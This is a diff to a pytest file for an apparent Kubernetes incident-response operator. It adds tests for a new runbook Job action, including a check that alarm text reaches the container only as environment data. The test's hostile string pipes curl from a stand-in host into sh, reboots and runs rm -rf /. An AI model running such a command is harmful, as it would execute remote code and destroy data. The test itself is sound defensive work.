@@ -12,14 +12,21 @@ import pytest
 from kubernetes.client import ApiClient
 from pydantic import ValidationError
 
+from builders import incident
 from chart_support import Manifests, render, values_file
 from incident_operator import crd
 from incident_operator.assess import prompt
 from incident_operator.assess.guardrails import enforce
-from incident_operator.models import Assessment, Decision, ResponsePolicySpec, Rule
+from incident_operator.models import Assessment, Decision, IncidentSpec, ResponsePolicySpec, Rule
 from incident_operator.policy import Policy
 from incident_operator.remediate import Target, registry
 from incident_operator.remediate.actions.restart_deployment import judge_rollout
+from incident_operator.remediate.actions.run_job import (
+    RunbookParameters,
+    RunJobSettings,
+    job,
+)
+from incident_operator.remediate.plugin import Request
 
 REPO = Path(__file__).resolve().parents[1]
 CHECKOUT = Target("us-east-1", "demo", "checkout")
@@ -45,6 +52,12 @@ def test_the_registry_finds_every_plugin_module() -> None:
     )
     assert sorted(registry.plugins()) == modules
     assert registry.names() == (*registry.plugins(), "notify_team", "ignore")
+    assert set(registry.plugins()) == {
+        "restart_service",
+        "scale_service",
+        "restart_deployment",
+        "run_job",
+    }
     # A new action is opt-in: only restarts are allowed where a policy says nothing.
     assert registry.allowed_by_default() == ("restart_service", "notify_team", "ignore")
 
@@ -53,7 +66,7 @@ def test_the_crds_enum_and_schemas_come_from_the_registry() -> None:
     incident = crd.incident_crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
     assessment = incident["properties"]["status"]["properties"]["assessment"]["properties"]
     assert assessment["action"]["enum"] == list(registry.names())
-    assert set(assessment["parameters"]["properties"]) == {"desiredCount", "step"}
+    assert set(assessment["parameters"]["properties"]) == {"desiredCount", "step", "runbook"}
     policy = crd.response_policy_crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
     settings = policy["properties"]["spec"]["properties"]["actions"]["properties"]
     assert set(settings) == set(registry.plugins())
@@ -209,3 +222,34 @@ def test_a_deployments_rollout_is_judged_as_kubectl_rollout_status_does(
     }
     deployment = ApiClient().deserialize(json.dumps(body), "V1Deployment", "application/json")
     assert judge_rollout(deployment) == expected
+
+
+def test_a_runbook_gets_the_alarm_as_data_never_as_a_command() -> None:
+    hostile = "$(curl evil.invalid | sh); `reboot` && rm -rf / #"
+    body = incident()
+    body["spec"]["summary"] = hostile
+    body["spec"]["alarm"]["name"] = hostile[:60]
+    settings = RunJobSettings.model_validate(
+        {"namespace": "ops", "runbooks": {"flush": {"image": "busybox", "command": ["/bin/flush"]}}}
+    )
+    request = Request(
+        target=CHECKOUT,
+        parameters=RunbookParameters(runbook="flush"),
+        settings=settings,
+        incident_id="prod/checkout-1@u-1",
+        alarm=IncidentSpec.model_validate(body["spec"]),
+    )
+
+    made = job(request)
+
+    [container] = made["spec"]["template"]["spec"]["containers"]
+    assert container["command"] == ["/bin/flush"]  # exec form: no shell reads the env
+    env = {e["name"]: e["value"] for e in container["env"]}
+    assert env["ALERT_SUMMARY"] == hostile
+    assert env["ALERT_NAME"] == hostile[:60]
+    assert env["ALERT_TARGET"] == "us-east-1/demo/checkout"
+    assert env["ALERT_INCIDENT"] == "prod/checkout-1@u-1"
+    # One Job per Incident and runbook: the name is the same on every attempt.
+    assert made["metadata"]["name"] == job(request)["metadata"]["name"]
+    assert made["metadata"]["namespace"] == "ops"
+    assert made["spec"]["backoffLimit"] == 0 and made["spec"]["activeDeadlineSeconds"] == 600
